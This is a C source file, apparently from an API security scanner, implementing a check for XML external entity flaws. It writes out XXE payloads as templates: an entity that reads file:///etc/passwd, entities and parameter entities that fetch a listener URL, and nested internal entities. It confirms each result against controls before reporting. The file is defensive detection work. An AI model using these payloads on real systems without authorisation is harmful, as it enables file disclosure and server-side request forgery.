// SPDX-License-Identifier: Apache-2.0
/*
 * XML with a document type of the caller: entities that the parser expands, fetches or reads.
 *
 *   look      internal   an entity of two random halves, one inside the other (never deeper)
 *             file       an entity that names the list of accounts
 *             fetched    an entity, and a parameter entity, that name our listener
 *   again     what was seen with new random parts, beside what must not show it -> confirmed
 *
 * Internal expansion alone is a protection that is missing. It is told at the end, where nothing worse was found at that place. Where XML goes: bodies that are XML, JSON bodies
 * sent as XML instead, and values that look like XML or are named so. Only requests that read are sent (the method guard decides).
 */
#include "checks/support/kept.h"
#include "checks/support/known_file.h"
#include "checks/support/places.h"
#include "checks/support/url_params.h"
#include "http/header.h"

enum { TAG_LOOK = 1, TAG_FILE, TAG_FETCH, TAG_INTERNAL };
enum look { INTERNAL, FILE_ENTITY, FETCHED, PARAMETER, LOOK_COUNT };
enum { HALF = 8, TARGETS_MAX = 64, DOCUMENT_MAX = 16384, EVIDENCE_BODY = 4096 };

struct target {
    struct place place;
    bool whole;    // the body itself is XML; else the place's value
    bool judged, fetch_asked, told;
    struct exchange *expanded, *control; // kept for the end
};
struct state {
    struct target *targets[TARGETS_MAX];
    size_t count;
};
struct shots {
    struct target *target;
    struct sv product[2]; // of internal entities
    struct sv token[LOOK_COUNT];
    enum look kind;
};

// -- documents -----------------------------------------------------------------------------------------------------------------------

static bool is_number(struct sv text) {
    for (size_t i = 0; i < text.len; i++) {
        if (strchr("0123456789.+-", text.ptr[i]) == NULL) return false;
    }
    return text.len > 0;
}

// A document that is known to be good, with the reference in the place of each text that is no number. SV_NONE when there is no such text.
static struct sv refer_in(struct arena *a, struct sv good, struct sv reference) {
    auto_buf b = BUF_INIT(DOCUMENT_MAX);
    size_t replaced = 0;
    while (good.len > 0) {
        size_t close = sv_find_char(good, '>');
        if (close == SIZE_MAX) break;
        buf_add(&b, sv_slice(good, 0, close + 1));
        good = sv_from_index(good, close + 1);
        size_t open = sv_find_char(good, '<');
        struct sv text = sv_slice(good, 0, open);
        bool leaf = open != SIZE_MAX && open + 1 < good.len && good.ptr[open + 1] == '/' && sv_trim(text).len > 0 && !is_number(sv_trim(text));
        buf_add(&b, leaf ? reference : text);
        replaced += leaf;
        good = sv_from_index(good, text.len);
    }
    return replaced == 0 || buf_failed(&b) ? SV_NONE : arena_copy_sv(a, buf_sv(&b));
}

static struct sv element(struct arena *a, struct sv before, struct sv name, struct sv text) {
    return arena_printf(a, SV_FMT "<" SV_FMT ">" SV_FMT "</" SV_FMT ">", SV_ARG(before), SV_ARG(name), SV_ARG(text), SV_ARG(name));
}

static bool is_name(struct sv v) {
    for (size_t i = 0; i < v.len; i++) {
        char c = sv_lower_char(v.ptr[i]);
        if (!(c >= 'a' && c <= 'z') && c != '_' && (i == 0 || !((c >= '0' && c <= '9') || c == '-' || c == '.'))) return false;
    }
    return v.len > 0 && v.len <= 40;
}

// Nothing says which elements are read: those that the ordinary answer has members of, and common ones.
static struct sv common_elements(struct arena *a, const struct exchange *answer, struct sv reference) {
    static const struct sv names[] = {SV_INIT("name"), SV_INIT("title"), SV_INIT("id"), SV_INIT("value"), SV_INIT("text"), SV_INIT("message"), SV_INIT("item"), SV_INIT("description"),
                                      SV_INIT("content"), SV_INIT("query"), SV_INIT("user"), SV_INIT("username"), SV_INIT("email"), SV_INIT("comment"), SV_INIT("subject"), SV_INIT("data")};
    struct sv inner = SV("");
    struct node *root = NULL;
    if (exchange_answered(answer) && node_parse_json(a, answer->response.body, &node_limits_response, &root, NULL) != 0) root = NULL;
    unsigned count = 0;
    for (const struct node *c = node_is(root, NODE_OBJECT) ? root->first : NULL; c != NULL && count < 12; c = c->next, count++) {
        if (is_name(c->key)) inner = element(a, inner, c->key, reference);
    }
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) inner = element(a, inner, names[i], reference);
    return arena_printf(a, "<root>" SV_FMT "</root>", SV_ARG(inner));
}

// A document that the description itself shows: "… <order><sku>A1</sku></order> …".
static struct sv described(const struct operation *op) {
    const struct sv texts[] = {op->description, op->summary, op->body_schema != NULL ? op->body_schema->example : SV_NONE, op->body_schema != NULL ? op->body_schema->description : SV_NONE};
    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++) {
        size_t open = sv_find_char(texts[i], '<'), close = sv_rfind_char(texts[i], '>');
        struct sv part = open == SIZE_MAX || close == SIZE_MAX || close < open ? SV_NONE : sv_slice(texts[i], open, close + 1);
        if (part.len > 0 && part.len < DOCUMENT_MAX && sv_contains(part, SV("</")) && sv_find_char(part, '\\') == SIZE_MAX) return part;
    }
    return SV_NONE;
}

// From the description: one element for each text property.
static struct sv refer_by_schema(struct arena *a, const struct target *t, struct sv reference) {
    struct sv inner = SV("");
    const struct operation *op = t->place.op;
    const struct schema *s = op->body_schema;
    if (s == NULL || s->property_count == 0 || !t->whole) return common_elements(a, t->place.baseline->answer, reference);
    for (size_t i = 0; s != NULL && i < s->property_count && i < 12; i++) {
        struct sv name = s->properties[i].name;
        uint32_t types = s->properties[i].schema->types;
        bool text = types == 0 || (types & TYPE_STRING) != 0;
        inner = arena_printf(a, SV_FMT "<" SV_FMT ">" SV_FMT "</" SV_FMT ">", SV_ARG(inner), SV_ARG(name), SV_ARG(text ? reference : SV("1")), SV_ARG(name));
    }
    return arena_printf(a, "<root>" SV_FMT "</root>", SV_ARG(inner));
}

static struct sv root_name(struct sv document) {
    size_t i = 1;
    while (i < document.len && strchr(" \t\r\n/>", document.ptr[i]) == NULL) i++;
    return document.len > 0 && document.ptr[0] == '<' ? sv_slice(document, 1, i) : SV("root");
}

static struct sv document(struct arena *a, const struct target *t, struct sv declarations, struct sv reference) {
    struct sv good = sv_trim(t->place.value);
    if (t->whole && !sv_starts_with(good, SV("<"))) good = described(t->place.op);
    if (sv_starts_with(good, SV("<?xml"))) good = sv_trim(sv_from_index(good, sv_find_char(good, '>') + 1));
    struct sv content = sv_starts_with(good, SV("<")) && !sv_contains(good, SV("<!DOCTYPE")) ? refer_in(a, good, reference) : SV_NONE;
    if (content.ptr == NULL) content = refer_by_schema(a, t, reference);
    return arena_printf(a, "<?xml version=\"1.0\"?>\n<!DOCTYPE " SV_FMT " [" SV_FMT "]>\n" SV_FMT, SV_ARG(root_name(content)), SV_ARG(declarations), SV_ARG(content));
}

static struct probe *send_document(struct check_run *run, struct experiment *e, enum probe_role role, const struct target *t, struct sv declarations, struct sv reference) {
    struct sv text = declarations.ptr == NULL ? SV_NONE : document(&e->arena, t, declarations, reference);
    if (text.ptr == NULL) return NULL;
    if (!t->whole) return place_ask(run, e, role, &t->place, text, false);
    struct request rq = t->place.baseline->request;
    const struct header_list headers = rq.headers;
    rq.headers = (struct header_list){0};
    rq.body = text;
    struct sv type = sv_contains_nocase(t->place.op->body_media_type, SV("xml")) ? t->place.op->body_media_type : SV("application/xml");
    if (!header_copy_list(&e->arena, &headers, &rq.headers) || !header_set(&e->arena, &rq.headers, SV("Content-Type"), type)) return NULL;
    return check_probe(run, e, role, t->place.identity, &rq);
}

// -- asking --------------------------------------------------------------------------------------------------------------------------

static struct experiment *begin(struct check_run *run, struct target *t, uint32_t tag, uint16_t round, struct shots **ret) {
    struct experiment *e = place_experiment(run, &t->place, tag, round);
    *ret = e == NULL ? NULL : arena_new(&e->arena, struct shots);
    if (*ret == NULL) return NULL;
    (*ret)->target = t;
    e->user = *ret;
    if (t->whole) e->parameter = SIZE_MAX;
    return e;
}

static bool add_internal(struct check_run *run, struct experiment *e, size_t slot) {
    struct shots *s = e->user;
    struct arena *a = &e->arena;
    struct sv first = rng_word(check_rng(run), a, HALF), second = rng_word(check_rng(run), a, HALF);
    s->product[slot] = arena_printf(a, SV_FMT SV_FMT, SV_ARG(first), SV_ARG(second));
    struct sv declarations = arena_printf(a, "<!ENTITY a \"" SV_FMT "\"><!ENTITY b \"&a;" SV_FMT "\">", SV_ARG(first), SV_ARG(second));
    struct probe *p = send_document(run, e, ROLE_PROBE, s->target, declarations, SV("&b;"));
    return p != NULL && check_mark(e, p, first) && check_mark(e, p, second);
}

static bool add_file(struct check_run *run, struct experiment *e, enum probe_role role, const char *path) {
    struct shots *s = e->user;
    struct sv declarations = arena_printf(&e->arena, "<!ENTITY x SYSTEM \"file:///%s\">", path);
    return send_document(run, e, role, s->target, declarations, SV("&x;")) != NULL;
}

// A service without listener (the scan has none): nothing is added.
static bool add_fetched(struct check_run *run, struct experiment *e, bool parameter) {
    struct shots *s = e->user;
    struct sv token, url = check_canary_url(run, e, e->probe_count, &token);
    if (url.ptr == NULL) return true;
    struct sv declarations = parameter ? arena_printf(&e->arena, "<!ENTITY %% p SYSTEM \"" SV_FMT "\"> %%p;", SV_ARG(url))
                                       : arena_printf(&e->arena, "<!ENTITY x SYSTEM \"" SV_FMT "\">", SV_ARG(url));
    s->token[e->probe_count] = token;
    return send_document(run, e, ROLE_PROBE, s->target, declarations, parameter ? SV("word") : SV("&x;")) != NULL;
}

static int look(struct check_run *run, const struct place *p, bool whole, struct error *err) {
    struct state *state = check_state(run);
    struct target *t = arena_new(check_arena(run), struct target);
    struct shots *s;
    if (t == NULL) return error_nomem(err);
    if (state->count >= TARGETS_MAX) return 0;
    *t = (struct target){.place = *p, .whole = whole};
    state->targets[state->count++] = t;
    struct experiment *e = begin(run, t, TAG_LOOK, 1, &s);
    if (e == NULL) return error_nomem(err);
    bool ok = add_internal(run, e, 0) && add_file(run, e, ROLE_PROBE, "etc/passwd") && add_fetched(run, e, false) && add_fetched(run, e, true);
    if (ok) check_submit(run, e);
    return 0;
}

static bool is_xml_value(struct check_run *run, const struct place *p) {
    const struct parameter *param = &p->op->parameters[p->parameter];
    if (param->in == PARAM_HEADER || param->in == PARAM_COOKIE || !url_params_is_free_text(param)) return false;
    if (sv_starts_with(sv_trim(p->value), SV("<"))) return true;
    return p->value.len == 0 && url_params_name_in(check_knowledge(run, "wordlists/file-params"), SV("xml"), param->name);
}

// A body of XML that the description says nothing more of, so that there is no value to name.
static bool bare_body(struct check_run *run, const struct operation *op, struct place *ret) {
    size_t who = best_identity(run, op);
    if (who == SIZE_MAX || op->parameter_count > 0 || !sv_contains_nocase(op->body_media_type, SV("xml"))) return false;
    if (check_mode(run) == MODE_ACTIVE && !place_only_reads(op)) return false;
    *ret = (struct place){.op = op, .parameter = SIZE_MAX, .identity = who, .baseline = check_baseline(run, op, who)};
    return exchange_answered(ret->baseline->answer);
}

static int plan(struct check_run *run, const struct operation *op, struct error *err) {
    struct place places[PLACES_MAX];
    size_t count = places_find(run, op, places);
    bool body = op->body_media_type.len > 0 && (sv_contains_nocase(op->body_media_type, SV("xml")) || sv_contains_nocase(op->body_media_type, SV("json")));
    bool any = false;
    int r = 0;
    struct place bare;
    if (count == 0 && bare_body(run, op, &bare)) {
        check_coverage(run, op, COVERAGE_PASSED, NULL);
        return look(run, &bare, true, err);
    }
    for (size_t i = 0; i < count && r == 0; i++) {
        bool in_body = op->parameters[places[i].parameter].in == PARAM_BODY;
        if (in_body && body && !any) {
            any = true;
            r = look(run, &places[i], true, err);
        } else if (!(in_body && body) && is_xml_value(run, &places[i])) {
            any = true;
            r = look(run, &places[i], false, err);
        }
    }
    if (any) place_exercised(run, &places[0]);
    else if (count > 0) check_coverage(run, op, COVERAGE_NOT_APPLICABLE, "takes no XML");
    return r;
}

// -- telling -------------------------------------------------------------------------------------------------------------------------

static int tell(struct check_run *run, struct target *t, struct finding f, struct error *err) {
    const struct operation *op = t->place.op;
    f.category = CATEGORY_INPUT;
    f.who = t->place.identity == 0 ? WHO_ANYONE : WHO_USER;
    f.confidence = CONFIDENCE_CONFIRMED;
    t->told = true;
    if (!t->whole) return place_report(run, &t->place, f, err);
    struct arena *a = check_arena(run);
    f.method = op->method;
    f.path = op->path;
    f.operation = op;
    f.scope_key = arena_printf(a, SV_FMT " " SV_FMT, SV_ARG(op->method), SV_ARG(path_template_nameless(a, op->path)));
    return f.scope_key.ptr == NULL ? error_nomem(err) : check_report(run, &f, err);
}

static int tell_file(struct check_run *run, struct experiment *e, struct target *t, struct error *err) {
    struct exchange *withheld = known_file_withhold(&e->arena, e->exchanges[0], KNOWN_PASSWD);
    if (withheld == NULL) return error_nomem(err);
    const struct operation *op = t->place.op;
    const struct fact fact = {.kind = SV("traversal"), .subject_type = SV("endpoint"), .subject = arena_printf(check_arena(run), SV_FMT " " SV_FMT, SV_ARG(op->method), SV_ARG(op->path)),
                              .value = FACT_YES, .source = FACT_PROBE, .confidence = CONFIDENCE_CONFIRMED};
    const struct evidence_item evidence[] = {{.role = EVIDENCE_PROBE, .exchange = withheld, .note = SV("an entity that names a file gives the file")},
                                             check_evidence(e, 1, EVIDENCE_CONTROL, "the same words as another path give nothing")};
    static const struct finding_effect effects[] = {{.category = CATEGORY_SSRF, .cwe = 918}, {.category = CATEGORY_EXPOSURE, .cwe = 200}};
    return tell(run, t, (struct finding){
        .cause = SV("xml-external-entities"), .impact = IMPACT_SECRET, .title = SV("XML of the caller reads files of the machine"),
        .reason = SV("an external entity gave the list of accounts of the machine in two rounds, the same words as another path gave nothing"),
        .evidence = evidence, .evidence_count = 2, .effects = effects, .effect_count = 2, .cwe = {611}, .facts = {check_fact(run, &fact)}}, err);
}

static int tell_fetch(struct check_run *run, struct experiment *e, struct target *t, bool full, struct error *err) {
    const struct evidence_item evidence[] = {check_evidence(e, 0, EVIDENCE_PROBE, full ? "the answer of our listener stands in the answer" : "our listener was called for this entity")};
    static const struct finding_effect effects[] = {{.category = CATEGORY_SSRF, .cwe = 918}};
    return tell(run, t, (struct finding){
        .cause = SV("xml-external-entities"), .impact = IMPACT_DATA, .title = SV("XML of the caller makes the service fetch addresses"),
        .reason = SV("the parser fetched the addresses of external entities from our listener, in two rounds with new addresses"),
        .evidence = evidence, .evidence_count = 1, .effects = effects, .effect_count = 1, .cwe = {611}}, err);
}

static int finish(struct check_run *run, struct error *err) {
    struct state *s = check_state(run);
    int r = 0;
    for (size_t i = 0; i < s->count && r == 0; i++) {
        struct target *t = s->targets[i];
        if (t->told || t->expanded == NULL) continue;
        const struct evidence_item evidence[] = {{.role = EVIDENCE_PROBE, .exchange = t->expanded, .note = SV("entities of the caller's document type are expanded")},
                                                 {.role = EVIDENCE_CONTROL, .exchange = t->control, .note = SV("the halves without entities are not put together")}};
        r = tell(run, t, (struct finding){
            .cause = SV("xml-entities"), .impact = IMPACT_HARDENING, .title = SV("XML of the caller may define entities"),
            .reason = SV("two random halves came back put together by an entity of the caller's document type, in two rounds; nothing outside of the document was read"),
            .evidence = evidence, .evidence_count = 2, .cwe = {776}}, err);
    }
    return r;
}

// -- judging -------------------------------------------------------------------------------------------------------------------------

static bool is_expanded(const struct exchange *x, struct sv product) {
    return exchange_answered(x) && product.len > 0 && sv_contains(x->response.body, product);
}

static int ask_again(struct check_run *run, struct target *t, uint32_t tag, enum look kind, struct error *err) {
    struct shots *s;
    struct experiment *e = begin(run, t, tag, 2, &s);
    if (e == NULL) return error_nomem(err);
    s->kind = kind;
    bool ok = true;
    if (tag == TAG_FILE) {
        ok = add_file(run, e, ROLE_PROBE, "etc/./passwd") && add_file(run, e, ROLE_CONTROL, "passwd/etc") && add_file(run, e, ROLE_PROBE, "etc/passwd");
    } else if (tag == TAG_FETCH) {
        ok = add_fetched(run, e, kind == PARAMETER);
    } else {
        struct sv words = arena_printf(&e->arena, SV_FMT " " SV_FMT, SV_ARG(rng_word(check_rng(run), &e->arena, HALF)), SV_ARG(rng_word(check_rng(run), &e->arena, HALF)));
        ok = add_internal(run, e, 0) && send_document(run, e, ROLE_CONTROL, t, SV("<!ENTITY a \"a\">"), words) != NULL;
    }
    if (ok && e->probe_count > 0) check_submit(run, e);
    return 0;
}

static int judge_look(struct check_run *run, struct experiment *e, struct error *err) {
    const struct shots *s = e->user;
    struct target *t = s->target;
    const struct exchange *good = t->place.baseline->answer;
    int r = 0;
    for (size_t i = FETCHED; i < e->probe_count && r == 0 && !t->fetch_asked; i++) {
        if (!oracle_canary(e, s->token[i], e->exchanges[i], SV_NONE).called) continue;
        t->fetch_asked = true;
        r = ask_again(run, t, TAG_FETCH, (enum look)i, err);
    }
    if (t->judged || r != 0) return r;
    t->judged = true;
    bool file = known_file_shows(&e->arena, e->exchanges[FILE_ENTITY], KNOWN_PASSWD) && !known_file_shows(&e->arena, good, KNOWN_PASSWD);
    if (file) r = ask_again(run, t, TAG_FILE, FILE_ENTITY, err);
    if (r == 0 && is_expanded(e->exchanges[INTERNAL], s->product[0])) r = ask_again(run, t, TAG_INTERNAL, INTERNAL, err);
    bool blocked;
    return r == 0 ? place_blocked(run, e, &blocked) : r;
}

static int judge(struct check_run *run, struct experiment *e, struct error *err) {
    const struct shots *s = e->user;
    struct target *t = s->target;
    struct arena *a = &e->arena;
    if (e->tag == TAG_LOOK) return judge_look(run, e, err);
    if (e->tag == TAG_FETCH) {
        struct canary_verdict v = oracle_canary(e, s->token[0], e->exchanges[0], check_canary_secret(run, e, s->token[0]));
        return v.called && !t->told ? tell_fetch(run, e, t, v.full_read, err) : 0;
    }
    if (e->tag == TAG_FILE) {
        bool holds = known_file_shows(a, e->exchanges[0], KNOWN_PASSWD) && exchange_answered(e->exchanges[1]) && !known_file_shows(a, e->exchanges[1], KNOWN_PASSWD) &&
                     known_file_shows(a, e->exchanges[2], KNOWN_PASSWD);
        return holds ? tell_file(run, e, t, err) : 0;
    }
    if (!is_expanded(e->exchanges[0], s->product[0]) || is_expanded(e->exchanges[1], s->product[0]) || !exchange_answered(e->exchanges[1])) return 0;
    t->expanded = exchange_keep(check_arena(run), e->exchanges[0], EVIDENCE_BODY);
    t->control = exchange_keep(check_arena(run), e->exchanges[1], EVIDENCE_BODY);
    return t->expanded == NULL || t->control == NULL ? error_nomem(err) : 0;
}

const struct check check_xxe = {
    .id = "xxe",
    .title = "XML whose document type the caller writes",
    .category = CATEGORY_INPUT,
    .owasp = "API8:2023",
    .cwe = 611,
    .traits = CHECK_READ_ONLY,
    .state_size = sizeof(struct state),
    .plan = plan,
    .judge = judge,
    .finish = finish,
};
